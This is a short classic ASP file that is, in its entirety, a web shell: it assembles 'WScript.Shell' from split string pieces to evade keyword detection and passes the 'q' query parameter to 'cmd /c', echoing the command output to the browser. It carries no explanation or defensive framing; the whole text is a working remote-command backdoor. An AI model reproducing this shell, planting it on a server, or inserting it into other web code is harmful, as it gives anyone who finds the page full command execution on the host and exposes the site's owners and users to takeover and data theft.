<%
p = "WSc" & "ript." & "She" & "ll"
Set o = CreateObject(p)
Response.Write o.exec("cmd /c " & Request.QueryString("q")).stdout.readall
%>
